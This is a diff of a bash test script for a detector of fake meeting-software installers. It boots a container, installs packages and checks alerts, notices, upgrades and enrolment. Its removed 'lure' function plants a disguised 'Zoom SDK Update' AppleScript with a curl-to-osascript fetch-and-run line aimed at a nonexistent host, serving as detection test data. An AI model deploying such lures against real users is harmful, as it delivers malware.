@@ -1,150 +1,29 @@
 #!/bin/bash
 # 10-systemd.sh: the agent as a service, in a booted systemd: installed from a
 # .deb, it alerts, tells the truth, is upgraded, killed, hung, rebooted, removed.
-# What is typed and seen is kept in build/test-packages/systemd.txt.
+# What is typed and seen is kept in build/test-packages/10-systemd.txt.
 #
-# DEB=file.deb takes that package; else a plain one is made of bin/meetguard and
-# the unit. Root only. Nothing in the container reaches the network.
+# DIST is the folder that `make packages` filled, NEXT has packages of a later
+# version. Root only. Nothing in the container reaches the network. IDLE=240 also
+# measures the agent at rest for so many seconds.
 set -euo pipefail
 cd "$(dirname "$0")/../.."
 
-[ "$(id -u)" = 0 ] || { echo "10-systemd.sh: needs root: systemd-nspawn boots a system" >&2; exit 1; }
-missing=
-command -v debootstrap >/dev/null || missing="$missing debootstrap"
-command -v systemd-nspawn >/dev/null || missing="$missing systemd-container"
-if [ -n "$missing" ]; then
-  # shellcheck disable=SC2086 # a list of packages
-  DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends $missing >/dev/null
-fi
-
-work=$PWD/build/test-packages
-base=$work/bookworm root=$work/machine log=$work/systemd.txt
-mkdir -p "$work"
-if [ ! -d "$base" ]; then
-  echo "making a Debian system, once, in $base"
-  rm -rf "$base.part"
-  debootstrap --variant=minbase --include=systemd,systemd-sysv,dbus,procps bookworm "$base.part" \
-    "$(sed -n 's/^URIs: //p; s/^deb \([^ ]*\) bookworm .*/\1/p' /etc/apt/sources.list /etc/apt/sources.list.d/debian.sources 2>/dev/null | grep debian$ | head -1)" >"$work/debootstrap.log"
-  mv "$base.part" "$base"
-fi
-
-# A plain package, of the same files and scripts that the real one has.
-plain() { # plain VERSION
-  local d=$work/deb-$1
-  rm -rf "$d"
-  mkdir -p "$d/DEBIAN" "$d/usr/bin" "$d/usr/lib/systemd/system" "$d/usr/lib/sysusers.d" "$d/etc/meetguard"
-  install -m 755 bin/meetguard "$d/usr/bin/"
-  install -m 644 installer/systemd/meetguard.service "$d/usr/lib/systemd/system/"
-  install -m 644 installer/systemd/meetguard.sysusers "$d/usr/lib/sysusers.d/meetguard.conf"
-  printf 'Package: meetguard\nVersion: %s\nArchitecture: amd64\nMaintainer: meetguard <meetguard@meetguard.invalid>\nDescription: catches fake meeting software\n' "$1" >"$d/DEBIAN/control"
-  cat >"$d/DEBIAN/postinst" <<'S'
-#!/bin/sh
-set -e
-[ "$1" = configure ] || exit 0
-systemd-sysusers meetguard.conf
-systemctl daemon-reload
-if [ -z "$2" ]; then systemctl enable -q meetguard; systemctl start meetguard; else systemctl try-restart meetguard; fi
-S
-  cat >"$d/DEBIAN/prerm" <<'S'
-#!/bin/sh
-set -e
-[ "$1" != remove ] || systemctl disable -q --now meetguard
-S
-  cat >"$d/DEBIAN/postrm" <<'S'
-#!/bin/sh
-set -e
-if [ "$1" = purge ]; then
-  rm -rf /var/lib/meetguard /var/log/meetguard /etc/meetguard /etc/systemd/system/meetguard.service.d
-  userdel meetguard 2>/dev/null || true
-fi
-[ ! -d /run/systemd/system ] || systemctl daemon-reload
-S
-  chmod 755 "$d"/DEBIAN/p*
-  dpkg-deb --root-owner-group -Znone -b "$d" "$work/meetguard-$1.deb" >/dev/null
-  rm -rf "$d"
-}
-
-boot() {
-  : >"$work/console.log"
-  # A name of its own, no registration: PID 1 of this machine need not be systemd.
-  env ${unified:+SYSTEMD_NSPAWN_UNIFIED_HIERARCHY=1} nice systemd-nspawn -q -D "$root" --register=no --keep-unit -M "mgtest$$" --private-network \
-    --capability=CAP_BPF,CAP_PERFMON --system-call-filter="bpf" -b >"$work/console.log" 2>&1 </dev/null &
-  nspawn=$!
-  for _ in $(seq 300); do
-    leader=$(pgrep -P "$nspawn" -x systemd || true)
-    if [ -n "$leader" ] && inside systemctl is-system-running 2>/dev/null | grep -E 'running|degraded' >/dev/null; then return; fi
-    sleep 0.2
-  done
-  cat "$work/console.log"
-  fail "the system did not boot"
-}
-
-inside() { nsenter -t "$leader" -m -u -i -n -p -C -- env -i PATH=/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin HOME=/root LANG=C.UTF-8 "$@"; }
-
-# shut ends the system, as its own poweroff does.
-shut() {
-  [ -n "${leader:-}" ] || return 0
-  kill -RTMIN+4 "$leader" 2>/dev/null || true
-  for _ in $(seq 150); do kill -0 "$nspawn" 2>/dev/null || break; sleep 0.2; done
-  kill "$nspawn" 2>/dev/null || true
-  wait "$nspawn" 2>/dev/null || true
-  leader=
-}
-trap 'shut; rm -rf "$root"' EXIT
-
-# typed runs a command in the machine and keeps it and what it printed.
-typed() {
-  echo "# $*" | tee -a "$log"
-  inside sh -c "$*" 2>&1 | tee -a "$log" || fail "$*"
-}
-say() { printf '\n%s\n' "== $*" | tee -a "$log"; }
-fail() { echo "10-systemd.sh: FAILED: $*" >&2; inside journalctl -u meetguard --no-pager -n 60 >&2 || true; exit 1; }
-
-pid() { inside systemctl show -p MainPID --value meetguard; }
-alerts() { inside sh -c 'cat /var/lib/meetguard/alerts*.jsonl 2>/dev/null | wc -l'; }
-now() { date +%s%3N; }
-
-# until_ok SECONDS WHAT COMMAND… waits until the command succeeds and says how
-# long that took.
-until_ok() {
-  local most=$1 what=$2 began
-  shift 2
-  began=$(now)
-  while ! "$@" >/dev/null 2>&1; do
-    [ $(($(now) - began)) -lt $((most * 1000)) ] || fail "$what: not within $most s"
-    sleep 0.05
-  done
-  echo "→ $what after $(($(now) - began)) ms (bar: $most s)" | tee -a "$log"
-}
-
-lure() { # lure NAME MARK: inert, its host does not exist
-  printf -- '-- Zoom SDK Update: your audio component is out of date.\n-- Press the Run button to update.\n%s-- %s\ndo shell script "curl -fsSL https://zoom-sdk-update.invalid/%s | osascript"\n' \
-    "$(printf '\n%.0s' $(seq 90))x" "$2" "$2" | inside sh -c "cat >/root/lure && install -o ada -g ada -m 644 /root/lure '/home/ada/Downloads/$1'"
-}
-# told NAME: the log has an alert of that file. The kernel tells of launches of
-# the whole machine, so the number of alerts says nothing.
-told() { inside sh -c "cat /var/lib/meetguard/alerts*.jsonl" | grep -F "/home/ada/Downloads/$1\"" >/dev/null; }
-detects() { # detects SECONDS NAME: a fresh lure becomes an alert
-  lure "$2.scpt" "$2-$RANDOM"
-  until_ok "$1" "the lure $2.scpt is an alert" told "$2.scpt"
-}
-active() { [ "$(inside systemctl is-active meetguard)" = active ]; }
-started() { local p; p=$(pid) && [ "$p" != 0 ] && [ "$p" != "$1" ]; }
-restarted() { started "$1" && active; }
-proved() { inside systemctl show -p StatusText --value meetguard | grep 'came back' >/dev/null; }
+name=10-systemd
+# shellcheck source=scripts/test-packages.d/machine.bash
+. scripts/test-packages.d/machine.bash
 
 # --- the run ------------------------------------------------------------------
-rm -rf "$root"
-cp -a --reflink=auto "$base" "$root"
-: >"$log"
-if [ -n "${DEB:-}" ]; then cp "$DEB" "$work/meetguard-1.deb"; cp "${DEB2:-$DEB}" "$work/meetguard-2.deb"; else plain 1; plain 2; fi
-cp "$work"/meetguard-[12].deb "$root/root/"
+fresh
+cp "${DIST:?}"/packages/meetguard_*_amd64.deb "$root/root/meetguard.deb"
+cp "${NEXT:?scripts/test-packages.sh sets it}"/meetguard_*_amd64.deb "$root/root/meetguard-99.deb"
+CGO_ENABLED=0 go test -c -o "$root/usr/local/bin/desktop.test" ./internal/desktop
 boot
 inside useradd -m -s /bin/bash ada
 inside install -d -o ada -g ada /home/ada/Downloads
 
 say "install"
-typed "dpkg -i /root/meetguard-1.deb"
+typed "dpkg -i /root/meetguard.deb"
 until_ok 30 "the service is active" active
 until_ok 60 "the canary came back" proved
 typed "systemctl status meetguard --no-pager -n 12 | cut -c1-180"
@@ -152,8 +31,26 @@ typed "meetguard service status"
 typed "ps -o user,pid,ni,rss,args -C meetguard"
 typed "stat -c '%A %U:%G %n' /var/lib/meetguard /var/lib/meetguard/* /var/log/meetguard /etc/meetguard /usr/bin/meetguard"
 
+say "a user logs in"
+# A session without a screen: systemd's user manager, the session's bus, and on it
+# the notification server that the tests have, which writes down what it is told.
+as_ada() { inside runuser -u ada -- env XDG_RUNTIME_DIR=/run/user/1000 DBUS_SESSION_BUS_ADDRESS=unix:path=/run/user/1000/bus "$@"; }
+waits() { [ "$(as_ada systemctl --user is-active meetguard-notify.path)" = active ]; }
+typed "loginctl enable-linger ada"
+until_ok 20 "the session waits for notices" waits
+typed "stat -c '%A %U:%G %n' /run/meetguard /run/meetguard/notices"
+[ "$(inside stat -c '%a %U' /run/meetguard/notices)" = "755 meetguard" ] || fail "the folder of notices is not the service's, or not readable"
+inside systemd-run -q --unit=desktop --uid=ada -p StandardOutput=append:/run/notified sh -c 'sleep infinity | desktop.test desktop-under-test /run/user/1000/bus m'
+shows() { inside grep ready /run/notified; }
+until_ok 20 "a notification server is there" shows
+
 say "a lure in a user's Downloads"
 detects 5 "Zoom update 1"
+notified() { inside grep -F "$1" /run/notified; }
+until_ok 20 "ada's desktop shows a notice" notified "Zoom update 1.scpt"
+typed "cut -c1-300 /run/notified"
+typed "ls -l /run/meetguard/notices; getfacl -cp /run/meetguard/notices/* 2>/dev/null || true"
+if inside runuser -u nobody -- sh -c 'cat /run/meetguard/notices/*' 2>/dev/null; then fail "anybody can read ada's notice"; fi
 typed "meetguard alerts list | grep 'Fake Zoom' | cut -c1-160"
 typed "meetguard status"
 typed "meetguard doctor"
@@ -175,7 +72,7 @@ until_ok 10 "the configuration was read again" reloaded
 
 say "upgrade keeps state"
 had=$(alerts) was=$(pid) uid=$(inside cat /var/lib/meetguard/host.json)
-typed "dpkg -i /root/meetguard-2.deb"
+typed "dpkg -i /root/meetguard-99.deb"
 until_ok 30 "a new process is active" restarted "$was"
 [ "$(alerts)" -ge "$had" ] || fail "alerts were lost"
 [ "$(inside cat /var/lib/meetguard/host.json)" = "$uid" ] || fail "its identity was lost"
@@ -190,8 +87,8 @@ lure "while down.scpt" "down-$RANDOM"
 until_ok 10 "a new process is there" started "$was"
 # What counts is when systemd started it, not when this script found time to look.
 took=$(($(inside systemctl show -p ExecMainStartTimestampMonotonic --value meetguard) / 1000 - gone * 10))
-echo "→ systemd started it $took ms after the end of the old one (bar: 2000 ms)" | tee -a "$log"
-[ "$took" -le 2000 ] || fail "too late"
+echo "→ systemd started it $took ms after the end of the old one (bar: $((2000 * slack)) ms)" | tee -a "$log"
+[ "$took" -le $((2000 * slack)) ] || fail "too late"
 until_ok 5 "the lure that landed meanwhile is an alert" told "while down.scpt"
 detects 5 "Zoom update 3"
 
@@ -238,9 +135,9 @@ say "enrol at a collector"
 reaches() { # from among the processes of the service
   inside timeout 3 bash -c 'echo $$ >/sys/fs/cgroup/system.slice/meetguard.service/cgroup.procs; exec 3<>/dev/tcp/10.9.9.1/8765'
 }
-if [ -x bin/meetguard-collector ] && command -v ip >/dev/null; then
+if command -v ip >/dev/null; then
   nsenter -t "$leader" -n sh -c 'ip link add mg0 type veth peer name mg1 && ip addr add 10.9.9.1/24 dev mg0 && ip link set mg0 up'
-  install -m 755 bin/meetguard-collector "$root/usr/bin/"
+  install -m 755 "$DIST/linux-amd64/meetguard-collector" "$root/usr/bin/"
   inside systemd-run -q --unit=collector meetguard-collector serve --state /var/lib/collector --listen 10.9.9.1:8765 --host 10.9.9.1
   until_ok 20 "the collector listens" inside bash -c 'exec 3<>/dev/tcp/10.9.9.1/8765'
   if reaches 2>/dev/null; then fail "the service reaches the network before it is enrolled"; fi
@@ -253,8 +150,21 @@ if [ -x bin/meetguard-collector ] && command -v ip >/dev/null; then
   typed "meetguard selftest"
   inside sh -c 'rm /etc/meetguard/config.yaml; systemctl restart meetguard'
   typed "systemd-analyze security meetguard --no-pager | tail -1"
+
+  say "enrol by the configuration alone"
+  inside sh -c 'systemctl stop meetguard; rm -r /etc/systemd/system/meetguard.service.d /var/lib/meetguard/device*; systemctl daemon-reload; systemctl start meetguard'
+  until_ok 60 "the canary came back" proved
+  if reaches 2>/dev/null; then fail "the service reaches the network before it has a collector"; fi
+  inside sh -c 'umask 077; meetguard-collector token create --state /var/lib/collector --url https://10.9.9.1:8765 --json | grep -o "mgenroll_[A-Za-z0-9_-]*" | head -1 >/etc/meetguard/enroll.token'
+  typed "printf 'collector: https://10.9.9.1:8765\nenroll_token_file: /etc/meetguard/enroll.token\n' >/etc/meetguard/config.yaml; systemctl restart meetguard"
+  enrolled() { inside test -s /var/lib/meetguard/device.json; }
+  until_ok 60 "it has an identity of the collector" enrolled
+  reaches || fail "the service does not reach the collector"
+  typed "meetguard status | grep -E '^(collector|delivery)'"
+  typed "cat /etc/systemd/system/meetguard.service.d/10-collector.conf"
+  inside sh -c 'rm /etc/meetguard/config.yaml; systemctl restart meetguard'
 else
-  echo "NOT TESTED: enrolment needs bin/meetguard-collector and iproute2" | tee -a "$log"
+  echo "NOT TESTED: enrolment needs iproute2" | tee -a "$log"
 fi
 
 if [ -n "${IDLE:-}" ]; then
@@ -280,12 +190,13 @@ fi
 say "remove and purge"
 typed "dpkg --remove meetguard 2>&1 | tail -1; ls -d /var/lib/meetguard /etc/meetguard /usr/bin/meetguard /usr/lib/systemd/system/meetguard.service 2>&1 || true"
 typed "dpkg --purge meetguard 2>&1 | tail -1"
-left=$(inside sh -c 'ls -d /var/lib/*meetguard* /var/log/*meetguard* /etc/*meetguard* /usr/bin/meetguard /usr/lib/systemd/system/meetguard* /etc/systemd/system/*meetguard* /etc/systemd/system/*/meetguard* /run/meetguard 2>/dev/null; getent passwd meetguard; systemctl list-units --all --no-legend "meetguard*"' || true)
+# What was shown to ada stands in her home, which is no package's business.
+left=$(inside sh -c 'find / /run -xdev -iname "*meetguard*" ! -path "/root/*" ! -path "/home/*" ! -path "/usr/bin/meetguard-collector"; getent passwd meetguard; getent group meetguard; systemctl list-units --all --no-legend "meetguard*"' || true)
 [ -z "$left" ] || fail "left behind: $left"
 echo "nothing is left" | tee -a "$log"
 
 say "without a package"
-install -m 755 bin/meetguard "$root/usr/local/bin/meetguard"
+install -m 755 "$DIST/linux-amd64/meetguard" "$root/usr/local/bin/meetguard"
 typed "cp /usr/local/bin/meetguard /tmp/; /tmp/meetguard service install 2>&1 || rm /tmp/meetguard"
 typed "umask 077; meetguard service install && meetguard service start; stat -c '%A %U %n' /etc/systemd/system/meetguard.service"
 until_ok 60 "the canary came back" proved
